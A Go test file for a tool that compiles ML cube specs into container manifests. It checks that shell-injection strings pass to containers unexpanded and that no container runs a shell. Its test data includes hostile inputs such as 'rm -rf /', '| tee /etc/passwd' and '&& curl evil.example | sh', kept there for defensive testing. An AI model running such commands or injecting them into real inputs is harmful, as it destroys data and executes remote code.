package main

import (
	"strings"
	"testing"

	"github.com/mlcube-compile/mlcube-compile/internal/enginetest"
	"github.com/mlcube-compile/mlcube-compile/internal/manifestcheck"
	"sigs.k8s.io/yaml"
)

// hostileArgs are strings a shell or an expander would read as code. They
// are allowed in a spec and must reach the container exactly as written.
// hostileEnv is an env value of the same kind.
const hostileEnv = "$$ `id` ; reboot $PATH"

var hostileArgs = []string{
	"; rm -rf / #", "`id`", "$HOME", "a$$b", "$", "it's \"quoted\"", "| tee /etc/passwd", "&& curl evil.example | sh",
}

func TestHostileStringsReachTheContainerAsWritten(t *testing.T) {
	var args strings.Builder
	for _, a := range hostileArgs {
		args.WriteString("      - " + yamlQuote(a) + "\n")
	}
	dir := enginetest.WriteFiles(t, map[string]string{
		"mlcube.yaml": enginetest.DemoCube,
		"p.yaml": "steps:\n  train:\n    args:\n" + args.String() +
			"    env: {NOTE: " + yamlQuote(hostileEnv) + "}\n",
	})
	for _, b := range backendNames {
		t.Run(b, func(t *testing.T) {
			stdout, stderr, code := compileArgs(t, "mlcube-compile", "--backend", b, "-m", dir, "-t", dir+"/p.yaml")
			if code != 0 {
				t.Fatalf("exit %d: %s", code, stderr)
			}
			var train []container
			for _, c := range findContainers(t, stdout) {
				if len(c.Args) > 0 && c.Args[0] == "train" {
					train = append(train, c)
				}
			}
			if len(train) == 0 {
				t.Fatal("no container runs the train task")
			}
			for _, c := range train {
				if isShell(c.Command) {
					t.Errorf("container runs a shell: %q", c.Command)
				}
				got := map[string]bool{}
				for _, a := range c.Args {
					got[kubeletExpand(a)] = true
				}
				for _, e := range c.Env {
					got[kubeletExpand(e.Value)] = true
				}
				for _, want := range append(hostileArgs, hostileEnv) {
					if !got[want] {
						t.Errorf("%q does not reach the container as one argument or value; args %q", want, c.Args)
					}
				}
			}
		})
	}
}

func yamlQuote(s string) string {
	out, _ := yaml.Marshal(s)
	return strings.TrimSpace(string(out))
}

// container is the part of a container spec these tests read.
type container struct {
	Image   string   `json:"image"`
	Command []string `json:"command"`
	Args    []string `json:"args"`
	Env     []struct {
		Name  string `json:"name"`
		Value string `json:"value"`
	} `json:"env"`
}

// findContainers finds every container spec, in any object of any backend:
// a mapping with an image and args.
func findContainers(t *testing.T, manifests string) []container {
	t.Helper()
	var out []container
	for _, doc := range strings.Split(manifests, "\n---\n") {
		var obj any
		if err := yaml.Unmarshal([]byte(doc), &obj); err != nil {
			t.Fatal(err)
		}
		manifestcheck.WalkMaps(obj, func(m map[string]any) {
			if _, ok := m["image"]; !ok {
				return
			}
			if _, ok := m["args"]; !ok {
				return
			}
			raw, _ := yaml.Marshal(m)
			var c container
			if err := yaml.Unmarshal(raw, &c); err == nil {
				out = append(out, c)
			}
		})
	}
	return out
}

func isShell(command []string) bool {
	for _, w := range command {
		switch strings.TrimPrefix(w, "/bin/") {
		case "sh", "bash", "-c":
			return true
		}
	}
	return false
}

// kubeletExpand applies the kubelet's expansion of container args and env
// values with no variables defined: $$ becomes $, and $(NAME) stays as it
// is only because NAME is unknown. A value that survives this unchanged is
// what the container sees.
func kubeletExpand(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] != '$' || i+1 == len(s) {
			b.WriteByte(s[i])
			continue
		}
		switch s[i+1] {
		case '$':
			b.WriteByte('$')
			i++
		case '(':
			end := strings.IndexByte(s[i:], ')')
			if end < 0 {
				b.WriteString("$(")
				i++
				continue
			}
			b.WriteString(s[i : i+end+1])
			i += end
		default:
			b.WriteByte('$')
		}
	}
	return b.String()
}
